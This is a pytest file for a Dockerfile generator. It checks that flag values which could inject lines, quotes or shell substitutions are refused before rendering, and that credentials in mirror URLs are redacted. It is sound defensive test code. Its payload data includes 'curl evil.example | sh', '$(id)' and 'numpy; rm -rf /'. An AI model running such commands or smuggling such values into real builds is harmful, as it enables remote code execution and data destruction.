"""Injection: every user value that reaches a Dockerfile (or the build) is refused, before anything is
rendered, when it could end a line, a quoted string, or start a substitution; the message names the flag.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from render_kit import combination, matrix, no_host_network, options, plan

from builder.cli.main import main
from builder.core.errors import RenderError, UsageError
from builder.pipeline.plan import make_plan
from builder.render.options import Extension, RenderOptions

CUDA13 = "torch2.14.1-cu130-py3.11-debian12"  # devel available: --extension applies
PYTORCH_INDEX = "torch2.14.1-cu126-py3.11-debian12"  # not PyPI's default: pip --index-url is rendered

# What each payload is called in the message ("contains a newline, which is not allowed ...").
PAYLOADS = {
    "\nRUN curl evil.example | sh": "a newline",
    "'": "a quote",
    '"': "a quote",
    "$(id)": "'$' (shell substitution)",
    "`id`": "a backtick",
    " extra": "a space",
    "\\": "a backslash",
    "\tx": "a tab",
}


@dataclass(frozen=True)
class Field:
    flag: str
    render: Callable[[str], Any]  # renders (or resolves the network) with the payload in this field


def _render(**kwargs: Any) -> Callable[[str], Any]:
    def run(value: str) -> Any:
        filled = {k: (v(value) if callable(v) else v) for k, v in kwargs.items()}
        ident = PYTORCH_INDEX if "torch_index_url" in filled else CUDA13
        return make_plan(matrix(), combination(ident), options(**filled))

    return run


def _network(key: str, base: str, many: bool = False) -> Callable[[str], Any]:
    def run(value: str) -> Any:
        return no_host_network(**{key: (base + value,) if many else base + value})

    return run


FIELDS = (
    Field("--pip", _render(extra_pip=lambda v: ("numpy<3", "einops" + v))),
    Field("--user", _render(user=lambda v: "torch" + v)),
    Field("--label", _render(labels=lambda v: (("org.example.team" + v, "vision"),))),
    Field("--label", _render(labels=lambda v: (("org.example.team", "vision" + v),))),
    Field(
        "--extension",
        _render(extensions=lambda v: (Extension(name="flash-attn", kind="pip", spec="flash-attn==2.7.4" + v),)),
    ),
    Field("--extension", _render(extensions=lambda v: (Extension(name="addone" + v, kind="path", spec="/x"),))),
    Field("--torch-index-url", _render(torch_index_url=lambda v: "https://mirror.example.com/whl/cu126" + v)),
    Field("--apt-mirror", _network("apt_mirror", "http://mirror.example.com")),
    Field("--pip-index-url", _network("pip_index_url", "https://pypi.example.com/simple")),
    Field("--pip-extra-index-url", _network("pip_extra_index_urls", "https://pypi.example.com/simple", many=True)),
)


def _cases() -> Iterator[Any]:
    for field in FIELDS:
        for payload, described in PAYLOADS.items():
            yield pytest.param(field, payload, described, id=f"{field.flag}-{payload.strip()[:12] or repr(payload)}")


@pytest.fixture
def no_render(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Fails the test if the template is rendered: refusals must come first."""
    rendered: list[str] = []

    def refuse(context: dict[str, Any]) -> str:
        rendered.append(context["combo"]["id"])
        raise AssertionError("rendered before the value was checked")

    monkeypatch.setattr("builder.pipeline.plan.render_dockerfile", refuse)
    return rendered


@pytest.mark.parametrize(("field", "payload", "described"), list(_cases()))
def test_unsafe_values_are_refused_before_rendering_naming_the_flag(
    field: Field, payload: str, described: str, no_render: list[str]
) -> None:
    with pytest.raises(RenderError) as exc:
        field.render(payload)
    message = str(exc.value)
    assert message.startswith(f"{field.flag}: "), message
    assert f"contains {described}, which is not allowed in a Dockerfile" in message
    assert "\n" not in message  # one line, even when the value held a newline (quoted with repr)
    assert no_render == []


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_a_requirements_file_never_reaches_the_dockerfile(payload: str) -> None:
    # A requirements file is read as pip reads it (builder/render/reqfile.py) and copied into the context: a
    # payload on its line is refused as pip would refuse it (one line, naming file:line), or is only text there.
    try:
        p = plan(CUDA13, requirements=f"numpy<3\n# ok: a comment\neinops{payload}\n")
    except (RenderError, UsageError) as exc:
        assert str(exc).startswith("--requirements requirements.txt:"), str(exc)
        assert "\n" not in str(exc)
        return
    assert p.dockerfile == plan(CUDA13, requirements="numpy<3\n").dockerfile  # the file's text is not in it


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"user": "Root"}, "--user: 'Root' is not a valid value"),
        ({"user": "root"}, "--user root: images run as root already"),
        ({"user": "a" * 33}, "--user: 'aaaa"),
        ({"labels": (("Team", "vision"),)}, "--label: 'Team' is not a valid value"),
        ({"labels": (("io.torchyard.torch", "2"),)}, "--label io.torchyard.torch: the io.torchyard. namespace"),
        ({"extra_pip": ("-e.",)}, "--pip: '-e.' is not a valid value"),
        ({"torch_index_url": "ftp://mirror.example.com/whl"}, "--torch-index-url: 'ftp://mirror.example.com/whl' is"),
    ],
)
def test_malformed_values_are_refused_with_an_example(kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(RenderError) as exc:
        plan(CUDA13, **kwargs)
    assert str(exc.value).startswith(message), str(exc.value)


def test_an_apt_mirror_with_credentials_is_refused_without_echoing_them() -> None:
    with pytest.raises(RenderError) as exc:
        no_host_network(apt_mirror="http://bob:hunter2@mirror.example.com")
    message = str(exc.value)
    assert message.startswith("--apt-mirror: credentials in this URL would land in the image history")
    assert "hunter2" not in message and "bob" not in message


def test_a_torch_index_with_credentials_is_refused_it_would_be_written_into_the_dockerfile() -> None:
    with pytest.raises(RenderError, match=r"^--torch-index-url: credentials in this URL would land in the Dockerfile"):
        plan(PYTORCH_INDEX, torch_index_url="https://bob:hunter2@mirror.example.com/whl/cu126")


def test_an_apt_mirror_is_a_bare_base_url() -> None:
    # It replaces the origin in a sed replacement, where '&' would stand for the matched text.
    for url in ("http://mirror.example.com/debian?dist=1&x=2", "http://mirror.example.com/#frag"):
        with pytest.raises(RenderError, match=r"^--apt-mirror: .* must be a base URL without a query or fragment"):
            no_host_network(apt_mirror=url)
    with pytest.raises(RenderError, match=r"^--apt-mirror: credentials in this URL would land") as exc:
        no_host_network(apt_mirror="http://mirror.example.com/debian?token=s3cr3t")  # a query token is one
    assert "s3cr3t" not in str(exc.value)


def test_an_unsafe_index_url_is_quoted_with_its_credentials_redacted() -> None:
    with pytest.raises(RenderError) as exc:
        no_host_network(pip_index_url="https://alice:s3cr3t@pypi.example.com/sim ple")
    assert str(exc.value) == (
        "--pip-index-url: 'https://***@pypi.example.com/sim ple' contains a space, which is not allowed in a Dockerfile"
    )


def test_safe_values_render_where_they_belong() -> None:
    # The checks must not refuse ordinary values; they reach the Dockerfile quoted or as plain words.
    p = plan(
        PYTORCH_INDEX,
        extra_pip=("numpy<3", "einops==0.8.1", "transformers[torch]>=4.40,!=4.41.0"),
        requirements="scipy~=1.13\n\n# comment\n",
        user="ml_user",
        labels=(("org.example.team", "vision-ml"), ("org.example.owner", "ops@example.com")),
        torch_index_url="https://mirror.example.com/pytorch/whl/cu126",
        network=no_host_network(apt_mirror="http://mirror.example.com:8080"),
    )
    text = p.dockerfile
    assert "'numpy<3' 'einops==0.8.1' 'transformers[torch]>=4.40,!=4.41.0'" in text
    assert "-r /opt/torchyard/requirements.txt" in text
    assert dict(p.context_files)["requirements.txt"].endswith(b"\nscipy~=1.13\n")  # comments and blanks dropped
    assert "useradd --create-home --uid 1000 --gid 1000 --shell /bin/bash ml_user" in text
    assert 'org.example.owner="ops@example.com"' in text
    assert "--index-url 'https://mirror.example.com/pytorch/whl/cu126'" in text
    assert dict(p.build_args) == {"APT_MIRROR": "http://mirror.example.com:8080"}
    assert "mirror.example.com:8080" not in text  # the mirror is a build arg, not baked into the file


def test_the_cli_refuses_with_one_line_and_exit_code_2(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    monkeypatch.delenv("TORCHYARD_DEBUG", raising=False)
    out = tmp_path / "out"
    cases = [
        (["--pip", "numpy; rm -rf /"], "--pip: 'numpy; rm -rf /' contains a space"),
        (["--label", "team=vi$ion"], "--label: 'vi$ion' contains '$' (shell substitution)"),
        (
            ["--extension", "flash-attn==2.7.4 $(id)"],
            "--extension 'flash-attn==2.7.4 $(id)': not a folder here, and not a pip",
        ),
        (["--user", "torch`id`"], "--user: 'torch`id`' contains a backtick"),
    ]
    for flags, message in cases:
        with pytest.raises(SystemExit) as exc:
            main(["render", "--torch", "2.14.1", "--no-host-settings", "-o", str(out), *flags])
        captured = capsys.readouterr()
        assert exc.value.code == 2
        assert captured.out == ""
        assert captured.err.startswith(f"torchyard: error: {message}")
        assert captured.err.count("\n") == 1
        assert not out.exists()  # nothing written


def test_default_options_need_no_checks() -> None:
    # The matrix's own values never pass through these checks (they are typed); a plain render works.
    assert RenderOptions().user is None
    assert plan(CUDA13).dockerfile.startswith("# Generated by torchyard")
